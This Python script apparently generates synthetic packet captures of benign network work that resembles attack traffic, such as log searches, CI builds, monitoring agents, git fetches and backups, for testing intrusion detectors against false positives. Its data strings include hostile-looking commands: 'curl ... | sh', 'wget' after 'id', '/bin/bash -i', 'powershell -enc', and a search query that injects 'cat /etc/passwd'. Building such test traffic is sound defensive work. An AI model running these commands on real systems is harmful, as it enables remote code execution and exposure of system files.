#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""lookalikes.py SCENARIO OUT: ordinary work that looks like what detectors look for, written as packets.

Inside is 10.20.1.0/24 and the servers' 10.20.2.0/24, outside 203.0.113.0/24, the resolver 10.20.1.1. No dependency."""
import base64
import json
import struct
import zlib

from conversation import Tcp, answer, client_hello, dns, http, secret, server_hello, write_scenario

PERSON, RESOLVER, SERVER, OUTSIDE = "10.20.1.10", "10.20.1.1", "10.20.2.20", "203.0.113.20"
BROWSER = ["User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
           "Accept: text/html,application/xhtml+xml", "Accept-Language: en-US,en;q=0.5"]
PROGRAM = ["Accept: */*", "User-Agent: python-requests/2.31.0", "Content-Type: application/json"]
SHOWN = (b"<html><body><h1>How do I list users?</h1><pre>$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n"
         b"$ id\nuid=1000(ana) gid=1000(ana) groups=1000(ana)\n</pre></body></html>")


def web(tape, at, client, server, port, turns, gap=2):
    """Requests and answers on one connection; returns when it ended."""
    c = Tcp(tape, at, client, server, port).open()
    for up, down in turns:
        c.ask(up, down)
        c.wait(gap)
    c.close()
    return c.at


def hunts(words):
    for text in words:
        query = {"query": {"match_phrase": {"process.command_line": text}}, "size": 50}
        hit = {"hits": {"hits": [{"_source": {"command_line": text, "user": "NT AUTHORITY\\SYSTEM", "message": "uid=0(root) gid=0(root)"}}]}}
        yield (http("POST", "search.corp.example:9200", "/logs-*/_search", PROGRAM, json.dumps(query).encode()),
               answer(json.dumps(hit).encode(), "application/json"))


def benign_web_work(tape):
    """Metrics, searches in logs for commands, logs that hold them, scripts for builds, pages and searches about commands and classes."""
    gauge = b"".join(b"cpu,host=web1,cpu=cpu%d usage_idle=98.2 1770000000\n" % n for n in range(6))
    metrics = (http("POST", "metrics:8086", "/write?db=telegraf", ["User-Agent: Telegraf/1.29", "Content-Type: text/plain"], gauge),
               answer(b"", status="204 No Content"))
    web(tape, 1, PERSON, SERVER, 8086, [metrics] * 8, 10)
    words = ["cmd.exe /c whoami", "net user /domain", "powershell -enc", "/bin/bash -i", "curl http://198.51.100.9/x | sh", "nltest /dclist:"]
    web(tape, 2, "10.20.1.11", SERVER, 9200, hunts(words), 60)
    line = json.dumps({"command_line": "/bin/sh -c id; wget http://198.51.100.9/a", "message": "uid=0(root) gid=0(root)"}).encode()
    bulk = (http("POST", "search.corp.example:9200", "/_bulk", PROGRAM, b'{"index":{}}\n' + line + b"\n"), answer(b'{"errors":false}', "application/json"))
    web(tape, 3, "10.20.2.30", SERVER, 9200, [bulk] * 6, 10)
    script = b"<project><command>set -e; make clean\ncd src && curl -fsSL https://tools.vendor.example/t.tgz | tar xz\nmake test</command></project>"
    end = web(tape, 4, PERSON, "10.20.2.21", 8080, [(http("POST", "ci.corp.example", "/job/app/config.xml", ["User-Agent: curl/7.88.1"], script), answer(b""))])
    dns(tape, end + 5, "10.20.2.21", RESOLVER, "tools.vendor.example", "203.0.113.30")
    c = Tcp(tape, end + 6, "10.20.2.21", "203.0.113.30", 443).open()
    c.ask(client_hello(tape.dice, "tools.vendor.example"), tape.dice.randbytes(300))
    c.close()
    web(tape, 5, PERSON, "10.20.2.22", 80, [(http("GET", "docs.corp.example", uri, BROWSER), answer(b"<html>Class</html>"))
                                           for uri in ("/api/java/lang/ProcessBuilder.html", "/search?q=java.lang.Runtime")])
    web(tape, 6, PERSON, "10.20.2.23", 8080, [
        (http("PUT", "apps.corp.example", "/manager/text/deploy?path=/app2", ["User-Agent: Maven/3"], b"PK\3\4" + tape.dice.randbytes(900)), answer(b"OK", "text/plain")),
        (http("GET", "apps.corp.example", "/manager/text/undeploy?path=/app1", ["User-Agent: Maven/3"]), answer(b"OK", "text/plain"))])
    dns(tape, 7, "10.20.1.12", RESOLVER, "forum.example", OUTSIDE)
    web(tape, 8, "10.20.1.12", OUTSIDE, 80, [(http("GET", "forum.example", uri, BROWSER), answer(SHOWN))
                                            for uri in ("/index.php?c=topic&id=3", "/index.php?c=topic&id=4", "/search?q=ls;cat+/etc/passwd")])


def zabbix(value):
    text = json.dumps(value).encode()
    packed = zlib.compress(text)
    return b"ZBXD\x03" + struct.pack("<II", len(packed), len(text)) + packed


def benign_plain_work(tape):
    """A proxy of Zabbix, an agent's report that nobody asks for more, sealed states by MQTT, a program by an FTP whose orders are encrypted."""
    for i in range(4):
        c = Tcp(tape, 1 + 70 * i + tape.dice.random() * 60, PERSON, OUTSIDE, 10051).open()
        history = [{"itemid": 29000 + n, "value": str(tape.dice.random())} for n in range(8 + 3 * i)]
        c.ask(zabbix({"request": "proxy data", "history data": history}), zabbix({"response": "success", "tasks": []}))
        c.close()
    report = (b"<<<check_mk>>>\nAgentOS: linux\n<<<local>>>\nuid=0(root) gid=0(root) groups=0(root)\n<<<files>>>\n"
              b"\ndrwxr-xr-x 2 root root 4096 /srv\nsh: 1: sensors: not found\n")
    c = Tcp(tape, 2, SERVER, PERSON, 6556).open()
    c.send(1, report)
    c.close()
    dns(tape, 3, "10.20.1.11", RESOLVER, "mq.things.example", "203.0.113.24")
    c = Tcp(tape, 4, "10.20.1.11", "203.0.113.24", 1883).open()
    c.ask(b"\x10\x10\0\4MQTT\4\2\0\x3c\0\4lamp", b"\x20\2\0\0")
    for _ in range(52):
        sealed = b"2.1%016x" % tape.dice.getrandbits(64) + base64.b64encode(tape.dice.randbytes(112))
        message = b"\0\x0bsmart/out/1" + sealed
        c.wait(20)
        c.send(0, b"\x30" + bytes([len(message) & 0x7F | 0x80, len(message) >> 7]) + message)
    c.close()
    dns(tape, 5, "10.20.1.12", RESOLVER, "ftp.vendor.example", "203.0.113.21")
    c = Tcp(tape, 6, "10.20.1.12", "203.0.113.21", 21).open()
    c.send(1, b"220 ready\r\n")
    c.ask(b"AUTH TLS\r\n", b"234 go on\r\n")
    c.ask(client_hello(tape.dice), server_hello(tape.dice, tape.dice.randbytes(400)))
    for _ in range(4):
        secret(c, 0, 60)
        secret(c, 1, 80)
    data = Tcp(tape, c.at, "10.20.1.12", "203.0.113.21", 50123).open()
    data.send(1, b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0\x64\x86" + tape.dice.randbytes(2000))
    data.close()
    c.close()


def pkt(text):
    return b"%04x" % (len(text) + 4) + text


def fetch(tape, at, client, server, host):
    """git fetches over HTTP, protocol 2 (gitprotocol-v2): what is there, then what is wanted."""
    asks = ["User-Agent: git/2.39.5", "Accept-Encoding: deflate, gzip", "Git-Protocol: version=2"]
    kind = "application/x-git-upload-pack-"
    caps = pkt(b"agent=git/2.39.5") + pkt(b"object-format=sha1") + b"0001"
    wanted = pkt(b"command=fetch") + caps + b"".join(
        pkt(b"%s %s\n" % (word, tape.dice.randbytes(20).hex().encode())) for word in (b"want", b"have", b"have")) + b"0009done\n0000"
    post = ["Content-Type: " + kind + "request", "Accept: " + kind + "result"]
    web(tape, at, client, server, 80, [
        (http("GET", host, "/tools.git/info/refs?service=git-upload-pack", asks),
         answer(pkt(b"version 2\n") + b"0000", "application/x-git-upload-pack-advertisement")),
        (http("POST", host, "/tools.git/git-upload-pack", asks + post, wanted),
         answer(pkt(b"packfile\n") + tape.dice.randbytes(3000), kind + "result"))], 0.2)


def benign_builders(tape):
    """Hosts that build: git over HTTP, an image from a registry without TLS that is tried with TLS first, programs from a mirror of
    packages, a page whose own program posts bytes, backups of rclone and restic to a server inside."""
    dns(tape, 1, PERSON, RESOLVER, "git.partner.example", "203.0.113.20")
    for i in range(6):
        fetch(tape, 2 + 120 * i, PERSON, "203.0.113.20", "git.partner.example")
    for i in range(4):
        fetch(tape, 3 + 90 * i, "10.20.1.11", "203.0.113.25", "203.0.113.25")
    dns(tape, 4, PERSON, RESOLVER, "registry.partner.example", "203.0.113.21")
    for i in range(3):
        c = Tcp(tape, 5 + 60 * i, PERSON, "203.0.113.21", 5000).open()
        c.ask(client_hello(tape.dice, "registry.partner.example"),
              answer(b"400 Bad Request", "text/plain; charset=utf-8", "400 Bad Request"))
        c.close()
        digest = tape.dice.randbytes(32).hex()
        web(tape, c.at, PERSON, "203.0.113.21", 5000, [
            (http("GET", "registry.partner.example:5000", uri, ["User-Agent: skopeo/1.9.3", "Docker-Distribution-Api-Version: registry/2.0"]),
             answer(tape.dice.randbytes(2000), "application/octet-stream"))
            for uri in ("/v2/", "/v2/app/manifests/v1", "/v2/app/blobs/sha256:" + digest)], 0.1)
    program = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + tape.dice.randbytes(12000)
    for n, client in enumerate(("10.20.1.11", "10.20.1.12")):
        dns(tape, 7 + n, client, RESOLVER, "mirror.vendor.example", "203.0.113.24")
        web(tape, 8 + n, client, "203.0.113.24", 80, [
            (http("GET", "mirror.vendor.example", "/pool/" + name, ["User-Agent: Debian APT-HTTP/1.3 (2.6.1)"]),
             answer(program, "application/octet-stream")) for name in ("agent", "helper", "plugin", "shell", "viewer")], 0.2)
    dns(tape, 10, "10.20.1.13", RESOLVER, "app.vendor.example", "203.0.113.23")
    page = BROWSER + ["Accept-Encoding: gzip, deflate", "Origin: http://app.vendor.example", "Referer: http://app.vendor.example/"]
    web(tape, 11, "10.20.1.13", "203.0.113.23", 80, [
        (http("POST", "app.vendor.example", "/rpc", page, tape.dice.randbytes(300)), answer(b"{}", "application/json")) for _ in range(12)], 15)
    web(tape, 12, "10.20.1.12", SERVER, 8001, [
        (http("PUT", "10.20.2.20:8001", "/up/report%d.txt" % n, ["User-Agent: rclone/v1.60.1"], b"report\n" * 40),
         answer(b"", "text/plain", "201 Created")) for n in range(8)], 0.2)
    web(tape, 13, "10.20.1.12", SERVER, 8000, [
        (http("POST", "10.20.2.20:8000", "/data/" + tape.dice.randbytes(32).hex(), ["User-Agent: Go-http-client/1.1"], tape.dice.randbytes(3000)),
         answer(b"", "text/plain")) for _ in range(6)], 0.2)


if __name__ == "__main__":
    write_scenario(__doc__, benign_web_work, benign_plain_work, benign_builders)
